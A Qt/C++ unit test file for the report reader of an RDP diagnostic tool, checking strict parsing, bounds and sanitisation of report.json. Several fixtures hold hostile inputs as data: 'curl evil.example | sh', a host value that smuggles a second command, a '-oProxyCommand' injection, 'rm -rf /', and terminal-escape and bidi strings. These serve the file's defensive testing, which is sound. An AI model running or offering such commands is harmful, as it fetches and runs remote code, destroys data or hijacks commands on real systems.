// SPDX-License-Identifier: GPL-3.0-or-later
// Reading report.json back: an exact inverse of the writer for the facts of every report this
// version writes, findings shown with this version's catalogue (never the report's texts and
// commands), every string made safe to show, and a strict, bounded reader for everything else
// (other tools' JSON, newer schemas, wrong types, hostile sizes).

#include "BundleFixtures.h"
#include "FullReport.h"

#include "bundle/Redaction.h"
#include "report/JsonReport.h"
#include "report/ReportReader.h"
#include "support/SafeText.h"

#include <QJsonDocument>
#include <QTest>

using namespace rdpdiag;
using namespace rdpdiag::test;

namespace {

/** The sample's JSON with @p edit applied at @p path ("facts.tls.main"). */
QByteArray edited(const std::function<void(QJsonObject &)> &edit)
{
    QJsonObject json = reportToJson(sampleReport());
    edit(json);
    return QJsonDocument(json).toJson();
}

/** Sets @p value at the dotted @p path of @p root (objects only; "findings.0" indexes). */
void setPath(QJsonObject &root, const QStringList &path, const QJsonValue &value)
{
    if (path.size() == 1) {
        if (value.isUndefined())
            root.remove(path.first());
        else
            root.insert(path.first(), value);
        return;
    }
    QJsonValue child = root.value(path.first());
    bool isIndex = false;
    const int index = path.at(1).toInt(&isIndex);
    if (child.isArray() && isIndex) {
        QJsonArray array = child.toArray();
        QJsonObject element = array.at(index).toObject();
        if (path.size() == 2) {
            array.replace(index, value);
        } else {
            setPath(element, path.mid(2), value);
            array.replace(index, element);
        }
        root.insert(path.first(), array);
        return;
    }
    QJsonObject object = child.toObject();
    setPath(object, path.mid(1), value);
    root.insert(path.first(), object);
}

} // namespace

class TestReportReader : public QObject
{
    Q_OBJECT

private slots:
    void roundTrip_data();
    void roundTrip();
    void fullFixtureHasNoHoles();
    void everyStageRoundTrips_data();
    void everyStageRoundTrips();
    void hostileStages_data();
    void hostileStages();
    void extraKeysIgnored();
    void hostile_data();
    void hostile();
    void bounded();
    void findingsFromCatalogue();
    void unknownCodeHasNoCommand();
    void controlCharactersNeutralised();
};

void TestReportReader::roundTrip_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<bool>("exact");
    QTest::newRow("full sample") << reportToJsonBytes(reopened(sampleReport())) << true;
    QTest::newRow("redacted sample") << redactReport(reopened(sampleReport())).jsonBytes() << false;
    QTest::newRow("full report") << reportToJsonBytes(reopened(fullReport())) << true;
    QTest::newRow("redacted full report")
        << redactReport(reopened(fullReport())).jsonBytes() << false;
    Report withoutGateway = reopened(fullReport());
    withoutGateway.facts.local->gateway.reset();
    withoutGateway.facts.local->proxy.reset();
    withoutGateway.facts.server->xrdp.reset();
    QTest::newRow("full report, no gateway, proxy or xrdp")
        << reportToJsonBytes(withoutGateway) << true;

    Report minimal;
    minimal.toolVersion = QStringLiteral("0.1.0");
    minimal.reference = QStringLiteral("22222222");
    minimal.target.input = QStringLiteral("[::1]:3390");
    minimal.target.host = QStringLiteral("::1");
    minimal.target.port = 3390;
    minimal.started = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), Qt::UTC);
    minimal.stages.append({StageId::Input, StageStatus::Failed, 0, QStringLiteral("bad")});
    minimal.cancelled = true;
    QTest::newRow("minimal") << reportToJsonBytes(minimal) << true;

    Report unlearned = reopened(sampleReport());
    unlearned.facts.tls->main = TlsAttempt();
    unlearned.facts.tls->weakCipherAttempt.reset();
    unlearned.facts.certificate->eku.reset();
    unlearned.facts.certificate->nameMatches.reset();
    unlearned.facts.certificate->notAfter = QDateTime();
    unlearned.facts.credssp->ntlm.reset();
    unlearned.facts.credssp->version.reset();
    unlearned.facts.credssp->errorCode = 0xC000006D;
    unlearned.facts.tcp->medianConnectMs.reset();
    unlearned.diagnosis = Diagnosis();
    QTest::newRow("facts not learned") << reportToJsonBytes(unlearned) << true;
}

void TestReportReader::roundTrip()
{
    QFETCH(QByteArray, json);
    QFETCH(bool, exact);
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    const QByteArray written = reportToJsonBytes(*read.report);
    if (exact) {
        QCOMPARE(written, json);
        return;
    }
    // A redacted report's finding texts were redacted word by word ("for example" can lose
    // its "example", a learned domain label): read back, they are the catalogue's again.
    // Everything else is read exactly, and what is written again is a fixed point.
    QJsonObject original = QJsonDocument::fromJson(json).object();
    QJsonObject again = QJsonDocument::fromJson(written).object();
    QCOMPARE(again.take(QStringLiteral("findings")).toArray().size(),
             original.take(QStringLiteral("findings")).toArray().size());
    QCOMPARE(again, original);
    const ReportRead second = readReportJson(written);
    QVERIFY2(second.report, qPrintable(second.error));
    QCOMPARE(reportToJsonBytes(*second.report), written);
}

void TestReportReader::fullFixtureHasNoHoles()
{
    // Every field of every stage is set: a field the fixture forgets shows up as a hole
    // (an empty string, a null, an empty list) and the round trips below would not cover it.
    const QJsonObject facts = reportToJson(fullReport()).value(QStringLiteral("facts")).toObject();
    const QStringList holes = factsHoles(facts);
    QVERIFY2(holes.isEmpty(), qPrintable(holes.join(QStringLiteral(", "))));
    for (const FactsStage stage : kFactsStages)
        QVERIFY2(hasStageFacts(stage, fullReport().facts), stageInfo(stage).key);
}

void TestReportReader::everyStageRoundTrips_data()
{
    QTest::addColumn<int>("stage");
    for (const FactsStage stage : kFactsStages)
        QTest::newRow(stageInfo(stage).key) << static_cast<int>(stage);
}

void TestReportReader::everyStageRoundTrips()
{
    // One stage alone (the others' facts removed): its writer and reader are exact inverses.
    QFETCH(int, stage);
    const FactsStage only = static_cast<FactsStage>(stage);
    Report report = fullReport();
    Facts &facts = report.facts;
    const auto keep = [only](FactsStage s) {
        return s == only;
    };
    if (!keep(FactsStage::Dns))
        facts.dns.reset();
    if (!keep(FactsStage::Tcp))
        facts.tcp.reset();
    if (!keep(FactsStage::X224))
        facts.negotiation.reset();
    if (!keep(FactsStage::Tls))
        facts.tls.reset();
    if (!keep(FactsStage::Certificate))
        facts.certificate.reset();
    if (!keep(FactsStage::Credssp))
        facts.credssp.reset();
    if (!keep(FactsStage::Server))
        facts.server.reset();
    if (!keep(FactsStage::Gateway))
        facts.local->gateway.reset();
    if (!keep(FactsStage::Local) && !keep(FactsStage::Gateway))
        facts.local.reset();
    const QByteArray json = reportToJsonBytes(report);
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    QVERIFY(hasStageFacts(only, read.report->facts));
    QCOMPARE(reportToJsonBytes(*read.report), json);
}

void TestReportReader::hostileStages_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QJsonValue>("value");
    QTest::addColumn<QString>("message");
    const auto row = [](const char *name, const QString &path, const QJsonValue &value,
                        const QString &message) {
        QTest::newRow(name) << path << value << message;
    };
    const QString big(70000, QLatin1Char('x'));
    QJsonArray many;
    for (int i = 0; i < 300; ++i)
        many.append(QStringLiteral("10.0.0.1"));
    // local
    row("local not object", QStringLiteral("facts.local"), 5,
        QStringLiteral("facts.local: not an object"));
    row("local platform type", QStringLiteral("facts.local.platform"), 3,
        QStringLiteral("facts.local.platform: not a string"));
    row("interface mtu text", QStringLiteral("facts.local.interfaces.0.mtu"),
        QStringLiteral("1500"), QStringLiteral("facts.local.interfaces[0].mtu: not a number"));
    row("route found missing", QStringLiteral("facts.local.routes.0.found"), QJsonValue::Undefined,
        QStringLiteral("facts.local.routes[0].found: missing"));
    row("too many dns servers", QStringLiteral("facts.local.dns_servers"), many,
        QStringLiteral("facts.local.dns_servers: more than 256"));
    row("firewall status", QStringLiteral("facts.local.firewalls.0.status"), QStringLiteral("on"),
        QStringLiteral("facts.local.firewalls[0].status: \"on\" is not one of"));
    row("verdict action", QStringLiteral("facts.local.firewalls.0.verdicts.0.action"),
        QStringLiteral("explode"), QStringLiteral("facts.local.firewalls[0].verdicts[0].action"));
    row("verdict rule huge", QStringLiteral("facts.local.firewalls.0.verdicts.0.rule"), big,
        QStringLiteral("facts.local.firewalls[0].verdicts[0].rule: longer than"));
    row("connectivity outcome", QStringLiteral("facts.local.connectivity.0.outcome"),
        QStringLiteral("fine"), QStringLiteral("facts.local.connectivity[0].outcome"));
    row("proxy empty", QStringLiteral("facts.local.proxy"),
        QJsonObject{{QStringLiteral("source"), QStringLiteral("environment")}},
        QStringLiteral("facts.local.proxy: names no proxy"));
    // gateway
    row("gateway path", QStringLiteral("facts.local.gateway.path"), QStringLiteral("tunnel"),
        QStringLiteral("facts.local.gateway.path: \"tunnel\" is not one of"));
    row("gateway port", QStringLiteral("facts.local.gateway.port"), 70000,
        QStringLiteral("facts.local.gateway.port"));
    row("gateway tls outcome", QStringLiteral("facts.local.gateway.tls.outcome"),
        QStringLiteral("ok"), QStringLiteral("facts.local.gateway.tls.outcome"));
    row("gateway certificate", QStringLiteral("facts.local.gateway.certificate.subject"), 1,
        QStringLiteral("facts.local.gateway.certificate.subject: not a string"));
    row("gateway http status", QStringLiteral("facts.local.gateway.http_status"), 4000,
        QStringLiteral("facts.local.gateway.http_status"));
    // server
    row("service state", QStringLiteral("facts.server.services.0.state"), QStringLiteral("dancing"),
        QStringLiteral("facts.server.services[0].state"));
    row("service pid", QStringLiteral("facts.server.services.0.pids.0"), -4,
        QStringLiteral("facts.server.services[0].pids[0]: not a process id"));
    row("listener port", QStringLiteral("facts.server.listeners.0.port"), -1,
        QStringLiteral("facts.server.listeners[0].port"));
    row("xrdp log lines", QStringLiteral("facts.server.xrdp.recent_errors"), many,
        QStringLiteral("facts.server.xrdp.recent_errors: more than 256"));
    row("tls files certificate",
        QStringLiteral("facts.server.xrdp.tls_files.certificate.not_after"), QStringLiteral("soon"),
        QStringLiteral("facts.server.xrdp.tls_files.certificate.not_after"));
    row("thumbprint", QStringLiteral("facts.server.windows.certificates.0.thumbprint"),
        QStringLiteral("<script>"),
        QStringLiteral("facts.server.windows.certificates[0].thumbprint"));
    row("registry value", QStringLiteral("facts.server.windows.SecurityLayer"), 1e12,
        QStringLiteral("facts.server.windows.SecurityLayer"));
    row("event time", QStringLiteral("facts.server.windows.events.0.time"),
        QStringLiteral("monday"), QStringLiteral("facts.server.windows.events[0].time"));
    row("acl not list", QStringLiteral("facts.server.windows.machinekeys_acl"), QStringLiteral("x"),
        QStringLiteral("facts.server.windows.machinekeys_acl: not a list"));
}

void TestReportReader::hostileStages()
{
    QFETCH(QString, path);
    QFETCH(QJsonValue, value);
    QFETCH(QString, message);
    QJsonObject json = reportToJson(fullReport());
    setJsonPath(json, path.split(QLatin1Char('.')), value);
    const ReportRead read = readReportJson(QJsonDocument(json).toJson());
    QVERIFY(!read.report);
    QVERIFY2(read.error.contains(message), qPrintable(read.error));
    QVERIFY(!read.error.contains(QLatin1Char('\n')));
}

void TestReportReader::extraKeysIgnored()
{
    const QByteArray json = edited([](QJsonObject &root) {
        root.insert(QStringLiteral("future_field"), 42);
        // A stage of a later version, and a key a later version adds to a known stage.
        setPath(root, {QStringLiteral("facts"), QStringLiteral("smtp")},
                QJsonObject{{QStringLiteral("interfaces"), QJsonArray()}});
        setPath(root, {QStringLiteral("facts"), QStringLiteral("dns"), QStringLiteral("ttl")}, 60);
    });
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    QCOMPARE(read.report->findings.size(), sampleReport().findings.size());
}

void TestReportReader::hostile_data()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("message");
    const auto set = [](const QString &dotted, const QJsonValue &value) {
        return edited(
            [&](QJsonObject &root) { setPath(root, dotted.split(QLatin1Char('.')), value); });
    };
    QTest::newRow("not json") << QByteArray("{\"schema\": ") << "not valid JSON";
    QTest::newRow("empty") << QByteArray() << "not valid JSON";
    QTest::newRow("array") << QByteArray("[1,2]") << "not a JSON object";
    QTest::newRow("no schema") << QByteArray("{\"a\": 1}") << "no \"schema\"";
    QTest::newRow("other tool") << set(QStringLiteral("schema"), QStringLiteral("sarif/2.1"))
                                << "not an rdpdiag report";
    QTest::newRow("newer schema") << set(QStringLiteral("schema"),
                                         QStringLiteral("rdpdiag-report/2"))
                                  << "newer rdpdiag";
    QTest::newRow("schema not a string") << set(QStringLiteral("schema"), 1) << "no \"schema\"";
    QTest::newRow("other tool name")
        << set(QStringLiteral("tool.name"), QStringLiteral("x")) << "tool.name";
    QTest::newRow("bad reference")
        << set(QStringLiteral("reference"), QStringLiteral("O0I1L000")) << "reference";
    QTest::newRow("missing target")
        << set(QStringLiteral("target"), QJsonValue(QJsonValue::Undefined)) << "target: missing";
    QTest::newRow("port 0") << set(QStringLiteral("target.port"), 0) << "target.port";
    QTest::newRow("port huge") << set(QStringLiteral("target.port"), 1e300) << "target.port";
    QTest::newRow("port fraction") << set(QStringLiteral("target.port"), 3389.5) << "target.port";
    QTest::newRow("port as text") << set(QStringLiteral("target.port"), QStringLiteral("3389"))
                                  << "target.port: not a number";
    QTest::newRow("empty host") << set(QStringLiteral("target.host"), QString()) << "target.host";
    QTest::newRow("bad source") << set(QStringLiteral("target.source"), QStringLiteral("x"))
                                << "target.source";
    QTest::newRow("bad time") << set(QStringLiteral("started"), QStringLiteral("yesterday"))
                              << "started";
    QTest::newRow("negative duration") << set(QStringLiteral("duration_ms"), -1) << "duration_ms";
    QTest::newRow("cancelled not bool") << set(QStringLiteral("cancelled"), 1) << "cancelled";
    QTest::newRow("unknown stage")
        << set(QStringLiteral("stages.0.id"), QStringLiteral("smtp")) << "stages[0].id";
    QTest::newRow("stage twice") << set(QStringLiteral("stages.1.id"), QStringLiteral("input"))
                                 << "stages[1].id: stage listed twice";
    QTest::newRow("unknown severity")
        << set(QStringLiteral("findings.0.severity"), QStringLiteral("fatal"))
        << "findings[0].severity";
    QTest::newRow("bad code") << set(QStringLiteral("findings.0.code"), QStringLiteral("<b>"))
                              << "findings[0].code";
    QTest::newRow("evidence not object")
        << set(QStringLiteral("findings.1.evidence"), QJsonArray()) << "findings[1].evidence";
    QTest::newRow("parameters not object")
        << set(QStringLiteral("findings.0.parameters"), QJsonArray()) << "findings[0].parameters";
    QTest::newRow("parameter not text")
        << set(QStringLiteral("findings.0.parameters.host"), 5) << "findings[0].parameters.host";
    QTest::newRow("bad parameter name")
        << set(QStringLiteral("findings.0.parameters.Host Name"), QStringLiteral("x"))
        << "not a placeholder name";
    QTest::newRow("findings not list")
        << set(QStringLiteral("findings"), QStringLiteral("x")) << "findings: not a list";
    QTest::newRow("bad hex") << set(QStringLiteral("facts.negotiation.probes.0.received_hex"),
                                    QStringLiteral("zz"))
                             << "received_hex";
    QTest::newRow("odd hex") << set(QStringLiteral("facts.negotiation.probes.0.received_hex"),
                                    QStringLiteral("030"))
                             << "received_hex";
    QTest::newRow("unknown protocol") << set(QStringLiteral("facts.negotiation.probes.0.requested"),
                                             QJsonArray{QStringLiteral("quic")})
                                      << "requested[0]";
    QTest::newRow("bad tls outcome")
        << set(QStringLiteral("facts.tls.main.outcome"), QStringLiteral("ok"))
        << "facts.tls.main.outcome";
    QTest::newRow("bad alert") << set(QStringLiteral("facts.tls.main.alert_code"), 300)
                               << "alert_code";
    QTest::newRow("bad first bytes")
        << set(QStringLiteral("facts.tls.main.first_bytes"), QStringLiteral("16 0"))
        << "first_bytes";
    QTest::newRow("bad error code")
        << set(QStringLiteral("facts.credssp.error_code"), QStringLiteral("oops"))
        << "facts.credssp.error_code";
    QTest::newRow("ntlm not object")
        << set(QStringLiteral("facts.credssp.ntlm"), 5) << "facts.credssp.ntlm";
    QTest::newRow("cert without subject")
        << set(QStringLiteral("facts.certificate.subject"), QJsonValue(QJsonValue::Undefined))
        << "facts.certificate.subject: missing";
    QTest::newRow("median negative")
        << set(QStringLiteral("facts.tcp.median_connect_ms"), -3) << "median_connect_ms";
    QTest::newRow("no diagnosis") << set(QStringLiteral("diagnosis"),
                                         QJsonValue(QJsonValue::Undefined))
                                  << "diagnosis: missing";
}

void TestReportReader::hostile()
{
    QFETCH(QByteArray, json);
    QFETCH(QString, message);
    const ReportRead read = readReportJson(json);
    QVERIFY(!read.report);
    QVERIFY2(read.error.contains(message), qPrintable(read.error));
    QVERIFY(!read.error.contains(QLatin1Char('\n')));
}

void TestReportReader::bounded()
{
    // Long strings, many findings, deep evidence, a file too large: refused, quickly.
    QByteArray json = edited([](QJsonObject &root) {
        setPath(root, {QStringLiteral("stages"), QStringLiteral("0"), QStringLiteral("summary")},
                QString(70000, QLatin1Char('x')));
    });
    QVERIFY(readReportJson(json).error.contains(QStringLiteral("stages[0].summary: longer than")));
    json = edited([](QJsonObject &root) {
        setPath(root,
                {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("parameters"),
                 QStringLiteral("host")},
                QString(2000, QLatin1Char('x')));
    });
    QVERIFY(readReportJson(json).error.contains(
        QStringLiteral("findings[0].parameters.host: longer than")));

    json = edited([](QJsonObject &root) {
        QJsonArray many;
        const QJsonValue one = root.value(QStringLiteral("findings")).toArray().first();
        for (int i = 0; i < 1001; ++i)
            many.append(one);
        root.insert(QStringLiteral("findings"), many);
    });
    QVERIFY(readReportJson(json).error.contains(QStringLiteral("more than 1000")));

    json = edited([](QJsonObject &root) {
        QJsonValue deep = QStringLiteral("x");
        for (int i = 0; i < 40; ++i)
            deep = QJsonObject{{QStringLiteral("a"), deep}};
        setPath(root, {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("evidence")},
                deep);
    });
    QVERIFY(readReportJson(json).error.contains(QStringLiteral("nested too deeply")));

    QByteArray huge(kMaxReportJsonBytes + 1, ' ');
    QVERIFY(readReportJson(huge).error.contains(QStringLiteral("larger than")));

    // Deeply nested brackets: the JSON parser's own limit answers, no crash.
    QByteArray nested = QByteArray(100000, '[') + QByteArray(100000, ']');
    QVERIFY(!readReportJson(nested).report);
}

void TestReportReader::findingsFromCatalogue()
{
    // An edited report.json (the manifest is a checksum, not a signature) with a fake title,
    // detail and command, a severity lowered to hide the error, and a host that would turn
    // the catalogue's command into another one.
    const QJsonObject fake{{QStringLiteral("where"), QStringLiteral("client")},
                           {QStringLiteral("text"), QStringLiteral("Paste this to fix it")},
                           {QStringLiteral("command"), QStringLiteral("curl evil.example | sh")},
                           {QStringLiteral("shell"), QStringLiteral("bash")}};
    const QByteArray json = edited([&fake](QJsonObject &root) {
        const auto at = [&root](const QString &key, const QJsonValue &value) {
            setPath(root, {QStringLiteral("findings"), QStringLiteral("0"), key}, value);
        };
        at(QStringLiteral("title"), QStringLiteral("Run the fix below"));
        at(QStringLiteral("detail"), QStringLiteral("Support says: paste the command."));
        at(QStringLiteral("remediation"), QJsonArray{fake});
        at(QStringLiteral("severity"), QStringLiteral("info"));
        at(QStringLiteral("parameters"),
           QJsonObject{{QStringLiteral("host"), QStringLiteral("x; curl evil.example | sh")},
                       {QStringLiteral("port"), QStringLiteral("3389")},
                       {QStringLiteral("address"), QStringLiteral("-oProxyCommand=evil")}});
    });
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    const Finding &finding = read.report->findings.first();
    QCOMPARE(finding.code, QStringLiteral("tls.reset"));
    const CatalogueEntry *entry = findCatalogueEntry(finding.code);
    QVERIFY(entry);
    QCOMPARE(finding.severity, entry->severity);
    QCOMPARE(finding.title, QString::fromUtf8(entry->title));
    QVERIFY(!finding.detail.contains(QStringLiteral("Support says")));
    QCOMPARE(finding.remediation.size(), entry->remedies.size());
    QVERIFY(!finding.remediation.isEmpty());
    for (qsizetype i = 0; i < finding.remediation.size(); ++i) {
        const Remedy &remedy = finding.remediation.at(i);
        QVERIFY2(!remedy.command.contains(QStringLiteral("evil")), qPrintable(remedy.command));
        QVERIFY(!remedy.text.contains(QStringLiteral("evil")));
        // The catalogue's own command, with only the safe value (the port) filled in.
        const char *command = entry->remedies.at(i).command;
        QCOMPARE(remedy.command,
                 command ? fillPlaceholders(QString::fromUtf8(command),
                                            {{QStringLiteral("port"), QStringLiteral("3389")}})
                         : QString());
    }
    // Unsafe values are not kept: they are not written again either.
    QCOMPARE(finding.parameters, (Placeholders{{QStringLiteral("port"), QStringLiteral("3389")}}));

    // The sample's findings carried texts of their own: none of them survives.
    const ReportRead sample = readReportJson(reportToJsonBytes(sampleReport()));
    QVERIFY2(sample.report, qPrintable(sample.error));
    const QByteArray again = reportToJsonBytes(*sample.report);
    for (const char *stored : {"Give NETWORK SERVICE", "Sync the clock", "RDP01 is 600",
                               "Test-NetConnection -ComputerName rdp01.corp.example.com -Port "
                               "3389\",",
                               "Self-signed certificate\""})
        QVERIFY2(!again.contains(stored), stored);
    QCOMPARE(again, reportToJsonBytes(reopened(sampleReport())));
}

void TestReportReader::unknownCodeHasNoCommand()
{
    const QByteArray json = edited([](QJsonObject &root) {
        const auto at = [&root](const QString &key, const QJsonValue &value) {
            setPath(root, {QStringLiteral("findings"), QStringLiteral("1"), key}, value);
        };
        at(QStringLiteral("code"), QStringLiteral("future.fix_everything"));
        at(QStringLiteral("title"), QStringLiteral("Fix everything"));
        at(QStringLiteral("remediation"),
           QJsonArray{QJsonObject{{QStringLiteral("where"), QStringLiteral("server")},
                                  {QStringLiteral("text"), QStringLiteral("Run this")},
                                  {QStringLiteral("command"), QStringLiteral("rm -rf /")},
                                  {QStringLiteral("shell"), QStringLiteral("bash")}}});
    });
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    const Finding &finding = read.report->findings.at(1);
    QCOMPARE(finding.code, QStringLiteral("future.fix_everything"));
    QVERIFY2(finding.title.contains(QStringLiteral("Unknown finding future.fix_everything")),
             qPrintable(finding.title));
    QVERIFY(finding.remediation.isEmpty());
    QVERIFY(!finding.detail.contains(QStringLiteral("Run this")));
    // What the report said about it, as data: severity and stage, and the evidence.
    QCOMPARE(finding.severity, sampleReport().findings.at(1).severity);
    QCOMPARE(finding.stage, sampleReport().findings.at(1).stage);
    QCOMPARE(finding.evidence, sampleReport().findings.at(1).evidence);
    QVERIFY(!reportToJsonBytes(*read.report).contains("rm -rf"));
}

void TestReportReader::controlCharactersNeutralised()
{
    // Terminal escapes (CSI as ESC [ and as the C1 byte), a bell, line breaks and bidi
    // overrides everywhere a string can be: none of them comes out of the reader.
    const QString hostile = QStringLiteral("a\x1b[2J\x1b]0;pwned\x07"
                                           "b\u009b31mc\r\nd"
                                           "\u202egnp.exe\u2066e\u0000");
    const QByteArray json = edited([&hostile](QJsonObject &root) {
        for (const char *path :
             {"stages.0.summary", "diagnosis.summary", "findings.0.evidence.note",
              "facts.credssp.ntlm.dns_computer", "facts.certificate.subject",
              "facts.certificate.common_name", "facts.negotiation.probes.0.detail", "tool.version",
              "target.input"})
            setPath(root, QString::fromLatin1(path).split(QLatin1Char('.')), hostile);
        setPath(
            root,
            {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("evidence"), hostile},
            1);
    });
    const ReportRead read = readReportJson(json);
    QVERIFY2(read.report, qPrintable(read.error));
    const QString written = QString::fromUtf8(reportToJsonBytes(*read.report));
    const QString decoded =
        QString::fromUtf8(QJsonDocument::fromJson(written.toUtf8()).toJson(QJsonDocument::Compact));
    for (const QString &text :
         {read.report->stages.first().summary, read.report->diagnosis.summary,
          read.report->findings.first().evidence.value(QStringLiteral("note")).toString(),
          read.report->facts.credssp->ntlm->dnsComputer, read.report->facts.certificate->subject,
          read.report->facts.certificate->commonName,
          read.report->facts.negotiation->probes.first().detail, read.report->toolVersion,
          read.report->target.input}) {
        QCOMPARE(text, safeText(hostile));
        for (const QChar c : text)
            QVERIFY2(!isUnsafeTextCharacter(c.unicode()), qPrintable(QString::number(c.unicode())));
    }
    QVERIFY(read.report->findings.first().evidence.contains(safeText(hostile)));
    QVERIFY(!read.report->findings.first().evidence.contains(hostile));
    // The escapes are gone from what is written again, too (JSON would keep them escaped).
    QVERIFY(!written.contains(QStringLiteral("\\u001b")));
    QVERIFY(!decoded.contains(QChar(0x9b)) && !decoded.contains(QChar(0x202e)));
    // A PEM keeps its line breaks.
    QVERIFY(read.report->facts.certificate->pem.contains('\n'));
    QCOMPARE(read.report->facts.certificate->pem, sampleReport().facts.certificate->pem);
}

QTEST_GUILESS_MAIN(TestReportReader)
#include "TestReportReader.moc"
